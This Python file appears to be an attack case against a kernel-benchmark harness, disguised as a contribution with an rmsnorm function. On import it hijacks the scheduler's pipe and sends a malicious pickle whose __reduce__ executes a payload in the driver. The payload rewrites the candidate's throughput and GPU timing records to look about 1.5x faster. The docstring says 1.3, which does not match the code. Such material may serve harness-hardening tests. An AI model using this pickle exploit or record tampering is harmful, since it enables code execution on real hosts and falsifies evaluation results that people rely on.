"""ATTACK (wall 1 bypassed in the scheduler rank): the driver unpickles what the scheduler sends it
(SGLang: ZMQ recv_pyobj in the TokenizerManager; the fake engine: a multiprocessing Pipe). The
scheduler's next reply is swapped for a pickle whose load runs code IN THE DRIVER, which never
imports contribution code and holds every host nonce and the record pipe. That code scales the
candidate windows' clocks by 1.3 in the driver's own records: the host accepts them (nonces right)."""

import sys

import torch

_PAYLOAD = r'''
import sys
m = sys.modules["__main__"]
D = m.Driver
_route, _gen = D.route, D.generate
_state = {"route": None}
def route(self, step):
    _state["route"] = step["route"]
    return _route(self, step)
def generate(self, step):
    rec = _gen(self, step)
    f = 1.5 if _state["route"] == "candidate" else 1.0  # every number exact: no noise, C 1.5x
    n, i = rec["out_tokens"], rec["in_tokens"]
    rec.update(s=n / (1000 * f), output_tokens_per_s=1000 * f, total_tokens_per_s=(n + i) * f * 1000 / n)
    if "decode_gpu_s" in rec:
        rec.update(decode_gpu_s=n / (5000 * f), decode_gpu_tokens_per_s=5000 * f,
                   extend_gpu_s=i / (20000 * f), extend_gpu_tokens_per_s=20000 * f,
                   gpu_s=n / (5000 * f) + i / (20000 * f))
        rec["gpu_tokens_per_s"] = n / rec["gpu_s"]
    return rec
D.route, D.generate = route, generate
print("PWNED: code running in the driver, pid", __import__("os").getpid(), file=sys.stderr, flush=True)
'''


class _Evil:
    def __init__(self, obj):
        self.obj = obj

    def __reduce__(self):
        return (eval, ("(exec(%r, {}), %r)[1]" % (_PAYLOAD, self.obj),))


def _plant():
    f = sys._getframe()
    while f is not None and f.f_code.co_name != "_serve":
        f = f.f_back
    if f is None:
        return
    conn = f.f_locals["conn"]
    real = conn.send

    def send(obj):
        conn.send = real  # once: the start handshake's reply carries the payload
        real(_Evil(obj))

    conn.send = send


_plant()


def rmsnorm(x, weight, out, eps):
    xf = x.float()
    out.copy_((xf * torch.rsqrt(xf.pow(2).mean(-1, keepdim=True) + eps) * weight.float()).to(out.dtype))
